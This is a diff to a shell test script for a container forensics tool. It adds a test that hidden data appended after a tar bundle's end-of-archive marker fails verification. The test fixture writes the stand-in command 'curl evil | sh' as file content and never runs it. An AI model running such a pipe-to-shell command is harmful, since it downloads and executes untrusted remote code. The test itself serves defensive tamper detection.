@@ -3,7 +3,8 @@
 # ward respond collect + ward forensics verify/show: a bundle collected from a runc container
 # on an overlay root verifies (embedded and pinned key), holds the process artifacts, the
 # executable, a bounded memory dump and the files the container wrote or deleted in its
-# writable layer; changing one byte of one artifact makes verify fail and name it.
+# writable layer; changing one byte of one artifact makes verify fail and name it; data after
+# the end-of-archive marker makes it fail and name the offset.
 . "$(dirname "$0")/lib.sh"
 . "$(dirname "$0")/respond/runc.sh"
 r_need_runc
@@ -84,6 +85,25 @@ import json,sys; d=json.load(open(sys.argv[1])); assert not d["verified"] and d[
 printf 'respond:\n  key: %s\n' "$T_TMP/keys2/host.key" >"$T_TMP/ward2.yaml"
 "$WARD" -c "$T_TMP/ward2.yaml" respond collect --pid "$R_PID" -o "$T_TMP/k2.tar" --zstd >/dev/null
 t_check "zstd bundle verifies" "$WARD" forensics verify "$T_TMP/k2.tar"
+
+# issue 19 fault 10: a member appended after the end-of-archive marker (tar -i lists it) or
+# any non-zero byte there fails verification and names the marker's offset; zero padding to
+# the 10240-byte tar record does not
+END=$(stat -c %s "$B")
+echo "curl evil | sh" >"$T_TMP/evil.sh"
+tar -b 1 -C "$T_TMP" -cf "$T_TMP/evil.tar" evil.sh
+cat "$B" "$T_TMP/evil.tar" >"$T_TMP/hidden.tar"
+t_check "tar -i lists the appended member" bash -c "tar -tif '$T_TMP/hidden.tar' | grep -qx evil.sh"
+set +e
+"$WARD" forensics verify "$T_TMP/hidden.tar" >"$T_TMP/h.out"; rc=$?
+set -e
+t_check "appended member fails verification (exit 1)" [ "$rc" = 1 ]
+t_check "failure names the end-of-archive offset" grep -q "after the end-of-archive marker at offset $END " "$T_TMP/h.out"
+{ cat "$T_TMP/k2.tar"; zstd -qc "$T_TMP/evil.tar"; } >"$T_TMP/hidden.tar.zst"
+t_check "zstd bundle with an appended frame fails" bash -c "! '$WARD' forensics verify '$T_TMP/hidden.tar.zst' | grep -q '^OK'"
+cp "$B" "$T_TMP/padded.tar"
+truncate -s $(( (END + 10239) / 10240 * 10240 )) "$T_TMP/padded.tar"
+t_check "zero padding to the tar record verifies" "$WARD" forensics verify "$T_TMP/padded.tar"
 set +e
 "$WARD" forensics verify "$B" --key "$T_TMP/keys2/host.key.pub" >"$T_TMP/wk.out"; rc=$?
 set -e
